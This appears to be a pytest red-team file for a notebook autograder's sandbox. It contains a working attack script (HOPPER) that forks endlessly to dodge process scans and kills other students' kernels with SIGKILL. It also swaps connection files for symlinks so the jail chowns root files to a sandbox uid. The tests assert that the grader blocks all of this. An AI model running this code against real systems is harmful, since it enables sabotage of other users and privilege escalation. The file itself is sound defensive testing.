"""Attacks on the grader found by a fourteenth look.

- A process that forks and exits in a loop (its child goes on, under a new pid, a thousand
  times a second) is never where a scan of the process table saw it: every scan that killed a
  sandbox uid's processes (after each notebook, when a grading stops, when one starts) found
  nothing alive, or a pid already gone. Started by one notebook, it outlived it: it killed the
  kernel of every later student graded as the same uid (their row said `error`, 0 points), and
  it could read their scratch folders, connection files included (a kernel's key), since the
  next kernel runs as its uid. It outlived the grading too, and waited for the next one.
- And from there, root's files: the next kernel's scratch folder is that uid's, and the jail
  (root) handed the connection file that root wrote there to the uid with os.chown, which
  follows links. Swapped for a link to a file of root's (as /etc/passwd is), that file became
  the sandbox uid's.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time

import nbformat
import pytest
from conftest import CHAPTER, write
from students import save
from test_grade import LIMITS
from test_redteam11 import frame_chapter

from minigrad_course.build import release
from minigrad_course.grade import GradeOptions, grade

# Started by the notebook's answer cell: it hops from pid to pid (a new session, so no process
# group holds it), and once the kernel that started it is gone it kills every process of its uid
# (the next notebook's kernel) at each hop, and swaps the next kernel's connection file for a
# link to a file of root's. It writes its uid to `beat` 20 times a second, so that the test sees
# it alive, and stops by itself after 120 s (the test machine is shared).
HOPPER = """\
import os, signal, sys, time

kernel, beat, target = int(sys.argv[1]), sys.argv[2], sys.argv[3]
stop = time.monotonic() + 120
os.setsid()
hops = 0
for _ in range(2):  # four of them: one that a scan happens to catch is not all
    os.fork()


def swap_connection_files():
    # the next kernel's scratch folder is this uid's: its connection file, written by root,
    # becomes a link to target (which the jail, root, then hands to this uid)
    for entry in os.scandir("/tmp"):
        if entry.name.startswith("minigrad-grade-") and entry.stat().st_uid == os.getuid():
            path = os.path.join(entry.path, "kernel-connection.json")
            try:
                if not os.path.islink(path) and os.path.exists(path):
                    os.symlink(target, path + ".new")
                    os.replace(path + ".new", path)
            except OSError:
                pass


next_beat = 0.0
while time.monotonic() < stop:
    if time.monotonic() > next_beat:
        next_beat = time.monotonic() + 0.05
        fd = os.open(beat, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.write(fd, f"{os.getuid()} {next_beat}".encode())
        os.close(fd)
    try:
        if os.fork():
            os._exit(0)
    except OSError:  # the uid's process limit (zombies not reaped yet): try again
        time.sleep(0.001)
        continue
    time.sleep(0.005)  # (fewer zombies for the worker to reap: the uid's process limit holds)
    try:
        os.kill(kernel, 0)
    except ProcessLookupError:  # its notebook is done: the next one's kernel is this uid's too
        hops += 1
        if hops % 10 == 0:  # (a scan of /tmp takes time: a slower hopper is seen)
            swap_connection_files()
        os.kill(-1, signal.SIGKILL)
"""
HOP = """\
import os
import subprocess
import sys

subprocess.Popen([sys.executable, "-S", "-c", HOPPER, str(os.getpid()), BEAT, TARGET])


def relu(x):
    return np.maximum(x, 0)
"""
RELU = "def relu(x):\n    return np.maximum(x, 0)\n"


def _beat(path: str) -> str | None:
    try:
        with open(path) as f:
            return f.read()
    except OSError:
        return None


def _hopping(path: str) -> bool:
    """Whether the hopper still writes its beat (twice in a second)."""
    first = _beat(path)
    time.sleep(1.0)
    return _beat(path) not in (first, None)


@pytest.mark.grading
@pytest.mark.skipif(os.geteuid() != 0, reason="sandbox uids are used as root only")
def test_a_process_that_changes_its_pid_does_not_outlive_its_notebook(tmp_path):
    beat = f"/tmp/hopper-{os.urandom(4).hex()}"
    solution = frame_chapter()
    path = write(solution, tmp_path / "solutions" / f"{CHAPTER}.ipynb")
    # graded in this order, as one sandbox uid (one job at a time)
    target = tmp_path / "root-only"  # (a file of root's, as /etc/passwd is)
    target.write_text("root's\n")
    target.chmod(0o600)
    hopper = f"HOPPER = {HOPPER!r}\nBEAT = {beat!r}\nTARGET = {str(target)!r}\n{HOP}"
    answers = {"a_hops": hopper, "b_honest": RELU}
    for name, source in answers.items():
        nb = nbformat.from_dict(release(solution, CHAPTER))
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "relu")
        cell.source = source
        save(nb, tmp_path / "submissions" / name)
    options = GradeOptions(out=tmp_path / "grades.csv", jobs=1, limits=LIMITS)
    try:
        rows = grade(path, tmp_path / "submissions", options)
        found = {r["student"]: (r["total"], r["status"]) for r in rows}
        # (the hopper's source names `signal`: flagged for a person to read)
        assert found == {"a_hops": (3, "review"), "b_honest": (3, "ok")}, rows
        assert not _hopping(beat), "a process of the notebook outlived the grading"
        assert os.stat(target).st_uid == 0, "the jail handed a file of root's to a sandbox uid"
    finally:
        # (a hopper left by a failure: killed as its uid, the only way that reaches it)
        found = _beat(beat)
        if found:
            uid = int(found.split()[0])
            command = ["/bin/sh", "-c", "kill -KILL -1"]
            subprocess.run(command, user=uid, group=uid, extra_groups=[], check=False)
        time.sleep(0.2)
        if os.path.lexists(beat):
            os.unlink(beat)


@pytest.mark.grading
@pytest.mark.skipif(os.geteuid() != 0, reason="the jail changes owners as root only")
@pytest.mark.parametrize("link", ["symbolic", "hard"])
def test_the_jail_hands_no_file_through_a_link(tmp_path, link):
    """The paths the jail hands to the sandbox uid are in a folder of that uid's: whatever a
    process of the uid put there in place of the connection file is not followed."""
    target = tmp_path / "root-only"
    target.write_text("root's\n")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    connection = scratch / "kernel-connection.json"
    if link == "symbolic":
        connection.symlink_to(target)
    else:
        os.link(target, connection)
    uid = 65123  # (no account: the jail only execs /bin/true as it)
    config = {"uid": uid, "gid": uid, "chown": [str(connection), str(scratch)]}
    command = [sys.executable, "-m", "minigrad_course.jail", json.dumps(config), "/bin/true"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    # (refused: ELOOP for the symbolic link, PermissionError for the hard one)
    assert done.returncode != 0 and "kernel-connection.json" in done.stderr, done
    assert (os.stat(target).st_uid, os.stat(scratch).st_uid) == (0, 0)
